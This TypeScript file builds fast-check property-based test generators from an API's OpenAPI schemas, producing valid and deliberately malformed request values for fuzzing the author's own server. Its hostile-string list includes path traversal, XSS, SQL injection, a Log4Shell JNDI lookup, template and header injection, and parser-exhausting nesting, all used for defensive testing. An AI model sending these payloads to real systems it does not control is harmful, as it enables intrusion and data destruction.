/**
 * fast-check arbitraries from the JSON Schemas of the OpenAPI document: `valid` builds values the schema accepts
 * (so requests reach the use cases), `malformed` values it must refuse — wrong types, a required field missing, a
 * field broken deep inside, unknown fields, over-long and hostile strings, deep nesting.
 */
import fc from 'fast-check';

export interface JsonSchema {
  type?: string | string[];
  properties?: Record<string, JsonSchema>;
  required?: string[];
  items?: JsonSchema;
  enum?: unknown[];
  const?: unknown;
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
  nullable?: boolean;
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  minItems?: number;
  maxItems?: number;
  format?: string;
  pattern?: string;
}

/** Strings that have broken servers before: control and invisible characters, lone surrogates, traversal, injection. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '',
    ' ',
    '\u0000',
    'a\u0000b',
    '\ud800',
    'x\udfffy',
    '\u202e\u202d',
    '\ufeff',
    '\u200b',
    '😀👍🏽',
    '𠮷野家',
    '../../../../etc/passwd',
    '..\\..\\windows\\win.ini',
    '%00%2e%2e%2f',
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    "' or 1=1 --",
    '"; drop table users; --',
    '${jndi:ldap://example.invalid/a}',
    '{{7*7}}',
    '__proto__',
    'constructor',
    'NaN',
    '-0',
    '1e309',
    '9007199254740993',
    'null',
    '\r\n\r\nX-Injected: 1',
  ),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  // Long: past every limit, but under the 1 MiB body limit.
  fc.integer({ min: 1_000, max: 120_000 }).map((n) => 'あ'.repeat(n)),
);

/** Any JSON value at all, hostile strings included. */
const anyJson: fc.Arbitrary<unknown> = fc.oneof(
  fc.constant(null),
  fc.boolean(),
  fc.integer(),
  fc.double(),
  fc.constantFrom(Number.MAX_SAFE_INTEGER + 2, -1, 0, 1e308),
  hostileString,
  fc.array(fc.oneof(fc.integer(), hostileString), { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 8 }), fc.oneof(fc.integer(), hostileString), { maxKeys: 3 }),
);

const typeOf = (s: JsonSchema): string | undefined => (Array.isArray(s.type) ? s.type.find((t) => t !== 'null') : s.type);

function validString(s: JsonSchema): fc.Arbitrary<string> {
  if (s.format === 'uuid') return fc.uuid({ version: 7 });
  if (s.format === 'email') return fc.emailAddress();
  if (s.format === 'date-time') return fc.date({ min: new Date('2020-01-01'), max: new Date('2035-01-01'), noInvalidDate: true }).map((d) => d.toISOString());
  if (s.pattern) return fc.stringMatching(new RegExp(s.pattern), { maxLength: s.maxLength });
  const min = s.minLength ?? 0;
  return fc.string({ minLength: min, maxLength: Math.max(min, Math.min(s.maxLength ?? 30, 30)), unit: 'grapheme' }).filter((x) => x.trim().length >= min);
}

/** Values the schema accepts (as far as a generator can tell: domain rules still refuse some). */
export function valid(s: JsonSchema): fc.Arbitrary<unknown> {
  if (s.enum) return fc.constantFrom(...s.enum);
  if ('const' in s) return fc.constant(s.const);
  const alternatives = s.anyOf ?? s.oneOf;
  let arb: fc.Arbitrary<unknown>;
  if (alternatives?.length) {
    arb = fc.oneof(...alternatives.map(valid));
  } else {
    switch (typeOf(s)) {
      case 'string':
        arb = validString(s);
        break;
      case 'integer':
        arb = fc.integer({ min: s.minimum ?? -1000, max: Math.min(s.maximum ?? 1000, 1_000_000) });
        break;
      case 'number':
        arb = fc.double({ min: s.minimum ?? -1000, max: s.maximum ?? 1000, noNaN: true });
        break;
      case 'boolean':
        arb = fc.boolean();
        break;
      case 'array':
        arb = fc.array(s.items ? valid(s.items) : anyJson, { minLength: s.minItems ?? 0, maxLength: Math.max(s.minItems ?? 0, Math.min(s.maxItems ?? 3, 3)) });
        break;
      case 'object': {
        const props = s.properties ?? {};
        arb = fc.record(Object.fromEntries(Object.entries(props).map(([k, v]) => [k, valid(v)])), { requiredKeys: (s.required ?? []).filter((k) => k in props) });
        break;
      }
      default:
        arb = anyJson;
    }
  }
  return s.nullable ? fc.option(arb, { nil: null, freq: 5 }) : arb;
}

/** A value of the wrong kind for this schema, or one just past its limits. */
function wrongLeaf(s: JsonSchema): fc.Arbitrary<unknown> {
  const edges: fc.Arbitrary<unknown>[] = [anyJson];
  if (s.maxLength !== undefined) edges.push(fc.constant('x'.repeat(s.maxLength + 1)));
  if (s.minLength) edges.push(fc.constant(''), fc.constant(' '.repeat(s.minLength)));
  if (s.maximum !== undefined) edges.push(fc.constant(s.maximum + 1), fc.constant(String(s.maximum + 1)));
  if (s.minimum !== undefined) edges.push(fc.constant(s.minimum - 1), fc.constant(-1e308));
  if (s.maxItems !== undefined && s.maxItems < 2000 && s.items) edges.push(fc.constant(Array.from({ length: s.maxItems + 1 }, () => ({}))));
  if (s.enum) edges.push(fc.constant(`${String(s.enum[0])}x`), fc.constant(String(s.enum[0]).toUpperCase()));
  return fc.oneof(...edges);
}

/** Nested arrays far deeper than any schema: parsers that recurse can run out of stack. */
export const deepNesting = fc.integer({ min: 1_000, max: 100_000 }).map((depth) => `${'['.repeat(depth)}${']'.repeat(depth)}`);

/** A value the schema must refuse: broken at the top or somewhere inside an otherwise valid value. */
export function malformed(s: JsonSchema): fc.Arbitrary<unknown> {
  const props = s.properties ?? {};
  const keys = Object.keys(props);
  const options: fc.Arbitrary<unknown>[] = [wrongLeaf(s)];
  if (typeOf(s) === 'object' && keys.length) {
    const base = valid(s) as fc.Arbitrary<Record<string, unknown>>;
    // One field broken (recursively), one required field left out, or a field nobody knows.
    options.push(
      fc.tuple(base, fc.constantFrom(...keys)).chain(([v, k]) => malformed(props[k] as JsonSchema).map((bad) => ({ ...v, [k]: bad }))),
      fc.tuple(base, fc.string({ minLength: 1, maxLength: 12 }), anyJson).map(([v, k, x]) => ({ ...v, [`${k}_unknown`]: x })),
    );
    const required = (s.required ?? []).filter((k) => k in props);
    if (required.length) {
      options.push(
        fc.tuple(base, fc.constantFrom(...required)).map(([v, k]) => {
          const { [k]: _dropped, ...rest } = v;
          return rest;
        }),
      );
    }
  }
  if (typeOf(s) === 'array' && s.items) {
    const items = s.items;
    options.push(fc.tuple(fc.array(valid(items), { maxLength: 2 }), malformed(items)).map(([ok, bad]) => [...ok, bad]));
  }
  return fc.oneof(...options);
}
